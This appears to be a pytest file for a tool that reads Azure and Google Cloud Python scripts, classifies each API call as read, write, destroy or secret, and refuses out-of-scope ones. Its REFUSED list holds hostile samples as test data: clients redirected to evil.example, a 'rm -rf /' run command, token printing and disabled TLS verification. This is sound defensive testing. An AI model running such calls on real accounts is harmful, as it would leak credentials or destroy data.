"""Python scripts that call Azure and Google Cloud: read, kept in their place, and refused."""

from __future__ import annotations

from typing import Any

import pytest

from escher.contract.ports import Reading
from escher.contract.vocabulary import Effect
from escher.scripts.reader import Reader

HERE = {"AZURE_SUBSCRIPTION_ID": "sub-1", "CLOUDSDK_CORE_PROJECT": "shop", "GOOGLE_CLOUD_PROJECT": "shop"}
VM = "/subscriptions/sub-1/resourceGroups/web/providers/Microsoft.Compute/virtualMachines/vm-1"
WEB = "projects/shop/zones/us-east1-b/instances/web"
AZURE = """import os
import sys

from azure.identity import DefaultAzureCredential
from azure.mgmt.compute import ComputeManagementClient

endpoint = os.environ.get("AZURE_RESOURCE_MANAGER_URL", "https://management.azure.com")
compute = ComputeManagementClient(
    DefaultAzureCredential(),
    os.environ["AZURE_SUBSCRIPTION_ID"],
    base_url=endpoint,
    credential_scopes=[f"{endpoint}/.default"],
)
parts = sys.argv[1].split("/")
"""
GOOGLE = """import os
import sys

import google.auth
from google.oauth2.credentials import Credentials
from googleapiclient.discovery import build

override = os.environ.get("CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE")
compute = build("compute", "v1", client_options={"api_endpoint": override})
parts = sys.argv[1].split("/")
"""


def read(script: str, argument: str, **more: str) -> Reading:
    """The reading of a Python script in one subscription and project."""
    return Reader().read(script, "python", (argument,), HERE | more)


AZURE_CALLS: list[tuple[str, str, dict[str, Any], Effect]] = [
    ("compute.virtual_machines.begin_deallocate(parts[4], parts[8]).result()", "virtual_machines.begin_deallocate", {"resource_group_name": "web", "vm_name": "vm-1"}, "write"),
    ("compute.virtual_machines.begin_delete(resource_group_name=parts[4], vm_name=parts[8]).wait()", "virtual_machines.begin_delete", {"resource_group_name": "web", "vm_name": "vm-1"}, "destroy"),
    ("compute.virtual_machines.begin_update(parts[4], parts[8], {'tags': {'owner': sys.argv[1]}})", "virtual_machines.begin_update", {"resource_group_name": "web", "vm_name": "vm-1", "parameters": {"tags": {"owner": VM}}}, "write"),
    ("for disk in compute.disks.list():\n    if disk.managed_by is None and disk.tags['a'] == 'b':\n        print(disk.name)", "disks.list", {}, "read"),
    ("compute.disks.begin_grant_access('g', 'd', {'access': 'Read', 'durationInSeconds': 60}).result()", "disks.begin_grant_access", {"resource_group_name": "g", "disk_name": "d", "grant_access_data": {"access": "Read", "durationInSeconds": 60}}, "secret"),
]  # fmt: skip


@pytest.mark.parametrize(("call", "name", "parameters", "effect"), AZURE_CALLS)
def test_azure_is_read(call: str, name: str, parameters: dict[str, Any], effect: Effect) -> None:
    """Methods of azure-mgmt, with parameters by place or by name, bodies as plain dictionaries."""
    reading = read(AZURE + call, VM)
    assert reading.problems == ()
    (operation,) = reading.operations
    assert (operation.provider, operation.operation, operation.parameters) == ("azure", name, parameters)
    assert reading.effect == effect


GOOGLE_CALLS: list[tuple[str, str, dict[str, Any], Effect]] = [
    ("compute.instances().stop(project=parts[1], zone=parts[3], instance=parts[5]).execute()", "instances.stop", {"project": "shop", "zone": "us-east1-b", "instance": "web"}, "write"),
    ("request = compute.instances().delete(project=parts[1], zone=parts[3], instance=parts[5])\nrequest.execute(num_retries=3)", "instances.delete", {"project": "shop", "zone": "us-east1-b", "instance": "web"}, "destroy"),
    ("compute.instances().setLabels(project=parts[1], zone='z', instance='i', body={'labels': {'owner': 'ana'}, 'labelFingerprint': 'x'}).execute()", "instances.setLabels", {"project": "shop", "zone": "z", "instance": "i", "body": {"labels": {"owner": "ana"}, "labelFingerprint": "x"}}, "write"),
    ("credentials, project = google.auth.default()\nrun = build('run', 'v2', credentials=credentials)\nrun.projects().locations().services().list(parent='projects/shop/locations/-').execute()", "projects.locations.services.list", {"parent": "projects/shop/locations/-"}, "secret"),
    ("log = build('logging', 'v2', credentials=Credentials(os.environ['CLOUDSDK_AUTH_ACCESS_TOKEN']))\nlog.projects().sinks().list(parent='projects/shop').execute()", "projects.sinks.list", {"parent": "projects/shop"}, "read"),
]  # fmt: skip


@pytest.mark.parametrize(("call", "name", "parameters", "effect"), GOOGLE_CALLS)
def test_google_is_read(call: str, name: str, parameters: dict[str, Any], effect: Effect) -> None:
    """Methods of the discovery client; a request counts when it is made ready."""
    reading = read(GOOGLE + call, WEB)
    assert reading.problems == ()
    (operation,) = reading.operations
    assert (operation.provider, operation.operation, operation.parameters) == ("gcp", name, parameters)
    assert reading.effect == effect


@pytest.mark.parametrize(
    "call",
    [
        "compute.virtual_machines.begin_dealocate('a', 'b')", "compute.virtual_machine.get('a', 'b')", "compute.virtual_machines.begin_start('a')",
        "compute.virtual_machines.begin_start('a', 'b', 'c')", "compute.virtual_machines.begin_start('a', 'b', vm_name='b')", "compute.virtual_machines.begin_start('a', 'b', force=True)",
        "compute.virtual_machines.begin_update('a', 'b', {'tag': {}})", "compute.virtual_machines.begin_update('a', 'b', {'tags': 'x'})", "compute.virtual_machines.get('a', 1)",
    ],
)  # fmt: skip
def test_what_azure_would_not_take_is_invalid(call: str) -> None:
    """No such group or method, too few or too many parameters, a body that is none."""
    reading = read(AZURE + call, VM)
    assert (reading.effect, reading.invalid) == ("unknown", True)


@pytest.mark.parametrize(
    "call",
    [
        "compute.instances().stopp(project='shop', zone='z', instance='i')", "compute.instance().list(project='shop')", "compute.instances().stop(project='shop', zone='z').execute()",
        "compute.instances().stop('shop', 'z', 'i')", "compute.instances().setLabels(project='shop', zone='z', instance='i', body={'label': {}}).execute()", "build('compute', 'v9')", "build('compte', 'v1')",
        "compute.instances().list_next(1, 2)",
    ],
)  # fmt: skip
def test_what_google_would_not_take_is_invalid(call: str) -> None:
    """No such API, resource or method, something missing, a body that is none."""
    reading = read(GOOGLE + call, WEB)
    assert (reading.effect, reading.invalid) == ("unknown", True)


REFUSED = [
    (AZURE, "ComputeManagementClient(DefaultAzureCredential(), 'sub-2')"),
    (AZURE, "ComputeManagementClient(DefaultAzureCredential(), os.environ['AZURE_SUBSCRIPTION_ID'], base_url='https://evil.example')"),
    (AZURE, "ComputeManagementClient(DefaultAzureCredential(), os.environ['AZURE_SUBSCRIPTION_ID'], credential_scopes=['https://evil.example/.default'])"),
    (AZURE, "ComputeManagementClient('x', os.environ['AZURE_SUBSCRIPTION_ID'])"),
    (AZURE, "ComputeManagementClient(DefaultAzureCredential(), os.environ['AZURE_SUBSCRIPTION_ID'], connection_verify=False)"),
    (AZURE, "DefaultAzureCredential(authority='evil.example')"),
    (AZURE, "token = DefaultAzureCredential().get_token('x')"),
    (AZURE, "compute._client.send_request(1)"),
    (AZURE, "compute.send_request(1)"),
    (AZURE, "compute.virtual_machines.begin_run_command('a', 'b', {'commandId': 'RunShellScript', 'script': ['rm -rf /']})"),
    (AZURE, "compute.disks.begin_create_or_update('a', 'b', {'location': 'x', 'properties': {'creationData': {'createOption': 'Copy', 'sourceResourceId': '/subscriptions/sub-2/x'}}})"),
    (AZURE, "print(compute)"),
    (AZURE, "from azure.mgmt.compute import models"),
    (AZURE, "from azure.identity import ClientSecretCredential"),
    (AZURE, "ComputeManagementClient = 1"),
    (GOOGLE, "compute.instances().stop(project='other', zone='z', instance='i')"),
    (GOOGLE, "build('iam', 'v1').projects().serviceAccounts().list(name='projects/other')"),
    (GOOGLE, "build('compute', 'v1', client_options={'api_endpoint': 'https://evil.example'})"),
    (GOOGLE, "build('compute', 'v1', client_options={'quota_project_id': 'x'})"),
    (GOOGLE, "build('compute', 'v1', discoveryServiceUrl='https://evil.example')"),
    (GOOGLE, "build(sys.argv[1], 'v1', http=1)"),
    (GOOGLE, "Credentials('ya29.token')"),
    (GOOGLE, "print(os.environ['CLOUDSDK_AUTH_ACCESS_TOKEN'])"),
    (GOOGLE, "x = f\"{os.environ['CLOUDSDK_AUTH_ACCESS_TOKEN']}\""),
    (GOOGLE, "google.auth.load_credentials_from_file('x')"),
    (GOOGLE, "import googleapiclient.discovery"),
    (GOOGLE, "from googleapiclient.discovery import build_from_document"),
    (GOOGLE, "from googleapiclient.discovery import build as make"),
]  # fmt: skip


@pytest.mark.parametrize(("start", "call"), REFUSED)
def test_what_may_not_be_done_is_unknown(start: str, call: str) -> None:
    """Other accounts, log-ins and addresses, private ways in, tokens that leave."""
    assert read(start + call, VM if start is AZURE else WEB).effect == "unknown"


def test_an_endpoint_of_its_own_must_be_used() -> None:
    """Where the account has an endpoint, a script that would go to the cloud itself is refused."""
    demo = {
        "AZURE_RESOURCE_MANAGER_URL": "https://localhost:1",
        "CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE": "http://localhost:2/",
    }
    past = AZURE.replace("base_url=endpoint,", "").replace('credential_scopes=[f"{endpoint}/.default"],', "")
    assert read(AZURE, VM, **demo).problems == () == read(GOOGLE, WEB, **demo).problems
    assert read(past, VM, **demo).effect == "unknown"
    assert read(GOOGLE.replace("override})", "None})"), WEB, **demo).effect == "unknown"


LABELS = """found = compute.instances().get(project=parts[1], zone=parts[3], instance=parts[5]).execute()
labels = {"owner": "ana"}
compute.instances().setLabels(
    project=parts[1], zone=parts[3], instance=parts[5], body={"labels": LABELS, "labelFingerprint": found["labelFingerprint"]}
).execute()
"""


def test_a_fingerprint_may_be_what_google_answered() -> None:
    """It only keeps two changes apart; labels that are known only at the time are still refused."""
    assert read(GOOGLE + LABELS.replace("LABELS", "labels"), WEB).effect == "write"
    assert read(GOOGLE + LABELS.replace("LABELS", 'found["labels"]'), WEB).effect == "unknown"


def test_what_is_asked_again_and_again_is_told_once() -> None:
    """A script that waits by asking has one operation for it; what changes something counts every time."""
    asked = "compute.zoneOperations().get(project='shop', zone='z', operation='o').execute()"
    started = "compute.instances().start(project='shop', zone='z', instance='i').execute()"
    for call, count in ((asked, 1), (started, 3)):
        assert len(read(f"{GOOGLE}\nfor turn in range(3):\n    {call}", WEB).operations) == count


def test_null_takes_a_member_away() -> None:
    """Google's changes know null for "no longer there", whatever the member's type."""
    change = "build('storage', 'v1').buckets().patch(bucket='b', body={'labels': {'owner': None}}).execute()"
    reading = read(GOOGLE + change, WEB)
    assert (reading.effect, reading.operations[0].parameters["body"]) == ("write", {"labels": {"owner": None}})
